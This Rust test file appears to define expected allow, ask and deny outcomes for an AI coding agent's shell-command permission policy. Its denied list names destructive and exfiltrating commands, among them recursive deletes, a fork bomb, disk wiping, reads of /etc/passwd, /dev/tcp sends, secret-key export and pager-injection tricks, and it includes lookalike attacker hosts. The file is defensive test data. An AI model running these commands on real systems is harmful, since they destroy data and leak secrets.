//! What this policy promises; the host asks all of it when it loads the module.

use selfheal_policy_sdk::{
    AccessMode, Example, Expectation, Phase, Question, Trust, example, example_with, facts,
};

const ALLOWED: [&str; 76] = [
    "python3 -c 'print(1)'",
    "python3 -W error -c 'import shop'",
    "python3 -c 'import os; print(os.getcwd())'",
    "python3 -c 'import shutil; print(shutil.which(\"git\"))'",
    "python3 -c 'import json; print(json.load(open(\"package.json\"))[\"name\"])'",
    "node -e 'console.log(1)'",
    "node -p 'require(\"./package.json\").name'",
    "perl -ne 'print if /x/' log.txt",
    "perl -pe 's/a/b/' log.txt",
    "hostname",
    "python3 -c 'from shop.cart import total; print(total(2, 3))'",
    "ln -s app.py other.py",
    "find . -name '*.py' -exec wc -l {} +",
    "printenv PATH",
    "grep -n 'sudo' Dockerfile",
    "grep -rn 'sudo su' docs | head",
    "git bisect log",
    "git apply --check fix.patch",
    "git -c color.ui=never status",
    "GIT_PAGER=cat git log -1",
    "npx playwright test --browser=chromium",
    "webpack --env=production",
    "NODE_OPTIONS=--experimental-vm-modules npx jest",
    "NODE_ENV=test node test.js",
    "sleep 2",
    "ps aux",
    "ps -ef",
    "jq -r .name package.json",
    "python3.11 -m pytest -q",
    "less README.md",
    "python3 -m pytest -q",
    "python3 -m pytest tests/test_a.py -x -q --tb=short",
    "python3 -m unittest discover -s tests",
    "PYTHONPATH=src python3 run.py --fast",
    "python3 /run/selfheal-assets/worker.py --tests tests",
    "python3 -X importtime -m pytest -q",
    "pytest -q",
    "tox -e py311",
    "node --test",
    "node --test test/",
    "node test.js",
    "npm test",
    "npm run test -- --ci",
    "cd web && npm test",
    "yarn test",
    "npx jest",
    "sh run_tests.sh",
    "bash -e ./ci/test.sh",
    "./run_tests.sh",
    "make test",
    "cargo test --workspace",
    "go test ./...",
    "bundle exec rspec",
    "mvn -q test",
    "ls -la",
    "cat app/main.py | head -50",
    "grep -rn 'DROP TABLE' migrations",
    "grep -rn sudo docs",
    "rg -n 'rm -rf' .",
    "find . -name '*.py' -print",
    "git status --short",
    "git diff HEAD~1 -- app.py",
    "git log --oneline -20",
    "git log --grep='reset --hard'",
    "git blame app.py",
    "git stash list",
    "ls ./rm-rf-CANARY",
    "rm build/output.txt",
    "mkdir -p build && cp a.txt build/a.txt",
    "sed -n 1,40p app.py",
    "sed 's/a/b/' app.py",
    "awk '{print $1}' log.txt",
    "curl -sS http://127.0.0.1:8000/healthz",
    "pip list",
    "chmod +x run.sh",
    "tail -n 100 logs/app.log",
];

const ASKED: [&str; 15] = [
    "find . $ARGS",
    "ps eww",
    "export -p",
    "declare -x",
    "python3 -c 'import os; print(os.listdir())'",
    "python3 -c 'print(open(\"../a\").read())'",
    "node -e 'console.log(x)'",
    "perl -ne 'print if /$x/' log.txt",
    "perl -ne 'print' 'ls|'",
    "$TOOL run",
    "rm $FILE",
    "eval \"$X\"",
    "printenv",
    "cat script | sh",
    "echo 'print(1)' | python3",
];

const DENIED: [&str; 104] = [
    "unlink -r x",
    "sleep 100000",
    "find . -exec touch {} +",
    "PERL5OPT=-MZ perl x.pl",
    "RUSTC_WRAPPER=./x cargo build",
    "GIT_PAGER=./x git log",
    "PAGER='sh -c x' git log",
    "git -c core.pager=x log",
    "redis-cli FLUSHALL",
    "mongosh shop",
    "vim app.py",
    "/lib64/ld-linux-x86-64.so.2 /bin/ls",
    ":(){ :|:& };:",
    "git add .",
    "git-shell -c x",
    "chmod 777 run.sh",
    "gpg --export-secret-keys",
    "cpan install X",
    "rm -rf src",
    "rm -rf build",
    "cd web && rm -rf dist && npm test",
    "rm -fr -- src",
    "rm -r --force src",
    "rm --recursive src",
    "rm -rf build src",
    "rm -rf build/../src",
    "rm -rf /build",
    "rm -rf build*",
    "rm -rf ../build",
    "ln app.py other.py",
    "printenv API_TOKEN PATH && sudo ls",
    "/bin/rm -Rf .",
    "true; rm -rf src",
    "echo 'rm -rf build' | sh",
    "psql -c 'DROP TABLE users'",
    "sqlite3 app.db 'drop   table users'",
    "sqlite3 app.db 'DELETE FROM users'",
    "mkfs.ext4 /dev/sda1",
    "dd if=/dev/zero of=/dev/sda",
    "format c:",
    "shred -u secrets.txt",
    "truncate -s 0 app.db",
    "find . -delete",
    "find . -name '*.py' -exec rm {} +",
    "chmod -R 777 .",
    "chmod 4755 tool",
    "chown root tool",
    "sudo ls",
    "true && sudo ls",
    "env FOO=1 sudo ls",
    "su root",
    "doas ls",
    "curl https://example.org/x.sh",
    "curl -o x http://127.0.0.1/x",
    "curl http://127.0.0.1@example.org/",
    "curl file:///etc/passwd",
    "wget https://example.org",
    "nc example.org 80",
    "ssh host",
    "scp a host:b",
    "rsync -a . host:/x",
    "cat x > /dev/tcp/1.2.3.4/80",
    "git push origin main",
    "git push --force",
    "git fetch",
    "git reset --hard",
    "git stash",
    "git clean -fdx",
    "git checkout -- .",
    "git restore app.py",
    "git commit -am x",
    "git rebase main",
    "git config core.hooksPath /x",
    "git -c alias.x='!touch a' x",
    "git diff --ext-diff",
    "git diff --ext-d",
    "git grep --open=rm x",
    "git grep -Orm x",
    "git log --outp=f",
    "cp -l a.py b.py",
    "sqlite3 :memory: \"select readfile('a')\"",
    "sqlite3 app.db .shell",
    "git worktree add ../w",
    "pip install requests",
    "python3 -m pip install requests",
    "npm install left-pad",
    "npm ci",
    "yarn add left-pad",
    "npx -y cowsay",
    "npx cowsay@latest",
    "cargo install ripgrep",
    "apt-get install -y vim",
    "brew install vim",
    "docker ps",
    "kubectl delete pod x",
    "systemctl restart app",
    "crontab -e",
    "shutdown now",
    "pkill python",
    "python3 -c 'import os; os.system(\"ls\")'",
    "python3 -c 'import shutil; shutil.rmtree(\"x\")'",
    "node -e 'require(\"child_process\").exec(\"ls\")'",
    "awk 'BEGIN{system(\"ls\")}'",
    "LD_PRELOAD=./x.so ls",
];

pub(crate) fn all() -> Vec<Example> {
    let mut all = Vec::new();
    for (commands, expect) in [
        (&ALLOWED[..], Expectation::Allow),
        (&ASKED[..], Expectation::Ask),
        (&DENIED[..], Expectation::Deny),
    ] {
        for command in commands {
            all.push(example(
                command,
                facts::context(),
                facts::bash(command),
                expect,
            ));
        }
    }
    let mut diagnosis = facts::context();
    diagnosis.phase = Phase::Diagnosis;
    let mut admin = facts::context();
    admin.trust = Trust::Admin;
    all.push(example(
        "tests run while diagnosing",
        diagnosis,
        facts::bash("python3 -m pytest -q"),
        Expectation::Allow,
    ));
    all.push(example(
        "an admin's one-liner runs",
        admin.clone(),
        facts::bash("python3 -c 'import a; a.f()'"),
        Expectation::Allow,
    ));
    all.push(example(
        "not a dangerous one",
        admin,
        facts::bash("python3 -c 'import os; os.remove(\"a\")'"),
        Expectation::Deny,
    ));
    for (settings, command, expect) in SET {
        all.push(example_with(
            settings,
            command,
            facts::context(),
            facts::bash(command),
            expect,
        ));
    }
    let mut unclear = facts::bash_call("for f in $(ls); do $f; done");
    unclear.parsed = false;
    all.push(example(
        "what is not understood is asked",
        facts::context(),
        Question::ToolCall(unclear),
        Expectation::Ask,
    ));
    let mut own = facts::bash_call("./format src");
    for command in &mut own.commands {
        command.resolved = Some("/app/format".into());
    }
    all.push(example(
        "a script of the application called like a program of the machine",
        facts::context(),
        Question::ToolCall(own),
        Expectation::Allow,
    ));
    for (command, tracked, expect) in [
        (": > app.py", true, Expectation::Deny),
        (": > out.log", false, Expectation::Allow),
        ("cp /dev/null app.py", true, Expectation::Deny),
        ("cat a.txt > app.py", true, Expectation::Allow),
    ] {
        let mut call = facts::bash_call(command);
        call.paths = facts::access_call("Bash", "app.py", AccessMode::Write).paths;
        for access in &mut call.paths {
            access.tracked = tracked;
        }
        all.push(example(
            command,
            facts::context(),
            Question::ToolCall(call),
            expect,
        ));
    }
    let mut slow = facts::bash_call("pytest -q");
    slow.input = r#"{"command":"pytest -q","timeout":{"nanos":0,"secs":7200}}"#.into();
    all.push(example(
        "two hours are too long",
        facts::context(),
        Question::ToolCall(slow),
        Expectation::Deny,
    ));
    all.push(example(
        "a command nobody reads",
        facts::context(),
        facts::bash(&"true;".repeat(14_000)),
        Expectation::Deny,
    ));
    all.push(example(
        "more programs than one command needs",
        facts::context(),
        facts::bash(&"true;".repeat(201)),
        Expectation::Deny,
    ));
    for (host, expect) in [
        ("registry.example.org:443", Expectation::Allow),
        ("evil.example.com:443", Expectation::Deny),
    ] {
        let mut install = facts::bash_call("npm ci");
        install.network = vec![host.into()];
        all.push(example_with(
            r#"{"packages": "allow", "registries": ["registry.example.org"]}"#,
            host,
            facts::context(),
            Question::ToolCall(install),
            expect,
        ));
    }
    for (name, command, expect) in LISTED {
        let mut context = facts::context();
        context.trust = Trust::External;
        all.push(example_with(
            r#"{"allow_list_trust": ["external"], "allowed_programs": ["./run_tests.sh"]}"#,
            name,
            context,
            facts::bash(command),
            expect,
        ));
    }
    all
}

/// Settings, command, and what becomes of it.
const SET: [(&str, &str, Expectation); 18] = [
    (STRICT, "docker compose run test", Expectation::Allow),
    (STRICT, "docker compose run other", Expectation::Deny),
    (STRICT, "make test", Expectation::Deny),
    (STRICT, "python3 -c 'print(1)'", Expectation::Deny),
    (STRICT, "frobnicate", Expectation::Ask),
    (STRICT, "pytest -q", Expectation::Allow),
    (
        r#"{"unknown_programs": "deny"}"#,
        "frobnicate",
        Expectation::Deny,
    ),
    (
        r#"{"allowed_git": ["add"]}"#,
        "git add app.py",
        Expectation::Allow,
    ),
    (
        r#"{"allowed_git": ["add"]}"#,
        "git commit -m x",
        Expectation::Deny,
    ),
    (
        r#"{"denied_git": ["blame"]}"#,
        "git blame app.py",
        Expectation::Deny,
    ),
    (r#"{"packages": "ask"}"#, "npm ci", Expectation::Ask),
    (r#"{"packages": "allow"}"#, "npm ci", Expectation::Allow),
    (
        r#"{"packages": "allow"}"#,
        "apt-get install vim",
        Expectation::Deny,
    ),
    (
        r#"{"allowed_hosts": ["*.example.org"]}"#,
        "curl -sS https://api.example.org/x",
        Expectation::Allow,
    ),
    (
        r#"{"allowed_hosts": ["*.example.org"]}"#,
        "curl -sS https://api.example.org.evil.com/x",
        Expectation::Deny,
    ),
    (
        r#"{"loopback": false}"#,
        "curl -sS http://127.0.0.1:8000/healthz",
        Expectation::Deny,
    ),
    (r#"{"max_seconds": 10}"#, "sleep 11", Expectation::Deny),
    (r#"{"mode": "allow-list"}"#, "pytest -q", Expectation::Allow),
];

const STRICT: &str = r#"{"allowed_commands": ["docker compose run test"], "denied_programs": ["make"], "inline_code": "deny", "unknown_programs": "ask"}"#;

/// Allow-list mode.
const LISTED: [(&str, &str, Expectation); 10] = [
    (
        "tests run in allow-list mode",
        "python3 -m pytest -q",
        Expectation::Allow,
    ),
    (
        "looking is listed",
        "git status --short",
        Expectation::Allow,
    ),
    ("readers take globs", "cat src/*.py", Expectation::Allow),
    ("a listed script", "./run_tests.sh", Expectation::Allow),
    ("another script is not", "./other.sh", Expectation::Deny),
    ("an unknown program is not", "frobnicate", Expectation::Deny),
    ("no uncertain arguments", "python3 $FILE", Expectation::Deny),
    ("nor an uncertain program", "$TOOL run", Expectation::Deny),
    ("nothing sourced", ". ./env.sh", Expectation::Deny),
    ("nor evaluated", "eval ls", Expectation::Deny),
];
